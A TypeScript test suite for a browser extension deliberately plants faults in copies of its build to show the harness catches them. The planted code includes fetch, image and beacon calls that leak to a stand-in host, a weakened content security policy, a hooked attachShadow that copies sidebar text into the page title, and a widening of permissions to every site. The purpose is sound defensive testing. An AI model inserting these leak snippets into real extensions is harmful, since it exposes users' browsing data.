import { deflateRawSync, inflateRawSync } from "node:zlib";
import type { Page } from "puppeteer-core";
import { stateOf } from "../../e2e/harness/compare";
import { kind, openSession } from "../../e2e/harness/open";
import { cards, focusedInSidebar, hostCount, openPanel, waitForTab } from "../../e2e/harness/panel";
import type { Session } from "../../e2e/harness/session";
import { listed, testSite, unlisted } from "../../e2e/harness/sites";
import { unexplained } from "../../e2e/harness/suite";
import { quietTime } from "../../e2e/harness/wait";
import { switchExtension } from "./control";
import { patiently } from "./patient";
import { looksAs, pictureWithout } from "./picture";
import { spoilt, spoiltIn } from "./spoilt";

// Copies of the release build, each with a breach: what the tests of the promises rest on must notice it.

const plain = `${listed}/pages/plain`;
const leak = "https://www.unlisted-paper.test/leak";
const callOut = `;(() => { try { fetch("${leak}-fetch", { mode: "no-cors" }).catch(() => 0); } catch {}
try { new Image().src = "${leak}-image"; } catch {} try { navigator.sendBeacon("${leak}-beacon", "x"); } catch {} })();`;
const callsOut = (code: string): string => callOut + code;

async function withBreach<T>(folder: string | null, use: (session: Session) => Promise<T>): Promise<T> {
  const extension = folder === null ? { withoutExtension: true } : { folder };
  const session = await openSession({ site: testSite, ...extension });
  try {
    return await use(session);
  } finally {
    await session.close();
  }
}

const ownPages = ["popup", "options", "overview", "welcome"];
const ownScripts = ["background", ...ownPages].map((name) => `${name}.js`);

test("P1: background and own pages that tried to call out are stopped by their own policy", () =>
  withBreach(spoiltIn(Object.fromEntries(ownScripts.map((file) => [file, callsOut]))), async (session) => {
    await waitForTab(await session.open(plain));
    for (const name of ownPages) await (await session.openOwn(`${name}.html`)).close();
    await quietTime();
    expect(unexplained(session)).toEqual([]);
  }));

test("P1: without the policy a background that calls out is seen in the record of traffic", () =>
  withBreach(
    spoiltIn({
      "background.js": callsOut,
      "manifest.json": (text) =>
        text.replace(/connect-src 'none'/, "connect-src *").replace(/default-src 'none'; /, ""),
    }),
    async (session) => {
      await waitForTab(await session.open(plain));
      await patiently("the request", async () =>
        unexplained(session).some((request) => request.endsWith("/leak-fetch")),
      );
    },
  ));

test.each(["gate.js", "visit.js"])("P1: a %s that calls out is seen in the record of traffic", (file) =>
  withBreach(spoilt(file, callsOut), async (session) => {
    await waitForTab(await session.open(plain));
    const paths = () => unexplained(session).map((request) => request.replace(/.*\//, ""));
    await patiently("three requests", async () => paths().length >= 3);
    expect(paths().toSorted()).toEqual(["leak-beacon", "leak-fetch", "leak-image"]);
  }),
);

/** Everything in the sidebar's root, again and again, in a place that the page can read. */
const tellTitle = `;(() => { const real = Element.prototype.attachShadow;
Element.prototype.attachShadow = function (how) { const root = real.call(this, how);
setInterval(() => { document.title = root.textContent; }, 100); return root; }; })();`;

test.each([
  ["an open root", (code: string) => code.replace(/attachShadow\(\{mode:[^,}]+/g, 'attachShadow({mode:"open"')],
  ["a sidebar that writes into the page's title", (code: string) => tellTitle + code],
])("P2: %s is heard by the spy page", (_what, how) =>
  withBreach(spoilt("visit.js", how), async (session) => {
    const page = await session.open(`${listed}/pages/spy`);
    await openPanel(page);
    const outlet = (await cards(page)).flatMap(({ groups }) => groups.flatMap(({ outlets }) => outlets))[0] ?? "";
    expect(outlet).not.toBe("");
    await patiently("the spy to hear it", async () =>
      ((await page.evaluate("heard")) as string[]).join("\n").includes(outlet),
    );
  }),
);

const secret = "Hidden Herald Zq7";

/** The background with a changed pack, deflated as the build does it. */
const withOtherPack = (code: string, change: (pack: string) => string): string =>
  code.replace(/[A-Za-z0-9+/]{20000,}=*/, (packed) =>
    deflateRawSync(change(inflateRawSync(Buffer.from(packed, "base64")).toString("utf8"))).toString("base64"),
  );

test("P2: a secret planted in the index is shown in the panel and never heard by the page", () =>
  withBreach(
    spoilt("background.js", (code) => withOtherPack(code, (pack) => pack.replaceAll("Daily Mail", secret))),
    async (session) => {
      const page = await session.open(`${listed}/pages/spy`);
      await openPanel(page);
      await quietTime();
      expect(JSON.stringify(await cards(page))).toContain(secret);
      expect(((await page.evaluate("heard")) as string[]).join("\n")).not.toContain(secret);
    },
  ));

const harms = {
  "sets a margin": 'document.documentElement.style.marginRight = "300px"',
  "wraps a sentence":
    'const p = document.querySelector("article p"), m = document.createElement("mark"); m.append(...p.childNodes); p.append(m)',
  "adds a style sheet": "document.adoptedStyleSheets = [new CSSStyleSheet()]",
  "selects text": "getSelection().selectAllChildren(document.body)",
  "hides text on paper": 'document.styleSheets[0].insertRule("@media print { article p { display: none } }")',
};
const harmBy = `;({ ${Object.entries(harms)
  .map(([name, code]) => `${JSON.stringify(name)}: () => { ${code} }`)
  .join(", ")} })[decodeURIComponent(location.search.slice(1))]?.();`;

test("P3: a visit that does the page any harm is told from a page without us", async () => {
  const visit = async (session: Session, harm = ""): Promise<unknown> => {
    const page = await session.open(`${listed}/pages/print?${encodeURIComponent(harm)}`);
    if (session.addressOf("").includes("extension:")) await waitForTab(page);
    const state = await stateOf(page);
    await page.close();
    return state;
  };
  const alone = await withBreach(null, (session) => visit(session));
  await withBreach(
    spoilt("visit.js", (code) => harmBy + code),
    async (session) => {
      expect(await visit(session)).toEqual(alone);
      for (const harm of Object.keys(harms)) expect([harm, await visit(session, harm)]).not.toEqual([harm, alone]);
    },
  );
});

/** What our own pages may use of the browser. */
interface Chrome {
  tabs: { query(what: { url: string }): Promise<{ id: number }[]> };
  runtime: { sendMessage(message: object): Promise<unknown> };
}
declare const chrome: Chrome;

/** As by a click on "Check this page": one more visit in a page that has one. */
async function visitAgain(session: Session, page: Page): Promise<void> {
  const options = await session.openOwn("options.html");
  await options.evaluate(async (url) => {
    const [tab] = await chrome.tabs.query({ url: `${url}*` });
    const request = { mark: "second-source", id: "again", type: "checkTab", data: { tabId: tab?.id } };
    await chrome.runtime.sendMessage(request);
  }, plain);
  await options.close();
  await page.bringToFront();
}

const ownName = (code: string): string => code.replace('"second-source:newer"', '"newer"+Math.random()');

test.each([
  ["takes the first one's place", 1, (code: string) => `${code};`],
  ["that the first one does not hear of is counted", 2, ownName],
])("P4: a second sidebar %s", (_what, count, how) =>
  withBreach(spoilt("visit.js", how), async (session) => {
    const page = await session.open(plain);
    await waitForTab(page);
    await visitAgain(session, page);
    await patiently(`${count} of them`, async () => (await hostCount(page)) === count);
    await quietTime();
    expect(await hostCount(page)).toBe(count);
  }),
);

/** In Firefox the sheet takes a dead panel along, in Chromium the pulse. */
const immortal = (code: string): string =>
  kind === "firefox"
    ? code.replace(":host{display:none!important}", "")
    : code.replace(/setInterval\(\(\)=>/, "((..._)=>0)(()=>");

test("P4: a sidebar that outlives its extension is seen", () =>
  withBreach(spoilt("visit.js", immortal), async (session) => {
    const page = await session.open(plain);
    await waitForTab(page);
    await switchExtension(session, false);
    await new Promise((done) => setTimeout(done, 5000));
    await page.bringToFront();
    expect(await looksAs(page, await pictureWithout(plain))).toBe(false);
  }));

test("P8: a panel whose buttons the keyboard passes over is told by what Tab reaches", () =>
  withBreach(
    spoilt("visit.js", (code) => code.replaceAll('type:"button"', 'type:"button",tabIndex:-1')),
    async (session) => {
      const page = await session.open(`${listed}/pages/keys`);
      await waitForTab(page);
      await page.focus("#last");
      await page.keyboard.press("Tab");
      expect(await focusedInSidebar(page)).toBeNull();
    },
  ));

const everywhere = (text: string): string => {
  const manifest = JSON.parse(text);
  manifest.host_permissions.push("https://*/*");
  manifest.content_scripts[0].matches.push("https://*/*");
  return JSON.stringify(manifest);
};

test("P10: an extension that runs on every site is seen on one that is not listed", () =>
  withBreach(spoilt("manifest.json", everywhere), async (session) => {
    const page = await session.open(`${unlisted}/pages/plain`);
    await waitForTab(page);
    expect(await hostCount(page)).toBe(1);
  }));

test("F08: with a background that fails at its start the popup says so, and pages stay as they are", () =>
  withBreach(
    spoilt("background.js", (code) => `throw new Error("broken at the start");${code}`),
    async (session) => {
      const page = await session.open(`${listed}/pages/plain`);
      await quietTime();
      expect(await page.evaluate(() => document.getElementsByTagName("second-source").length)).toBe(0);
      const popup = await session.openOwn("popup.html");
      await patiently("the popup to say so", () =>
        popup.evaluate(() => /again|reload|restart/i.test(document.body.textContent ?? "")),
      );
    },
  ));
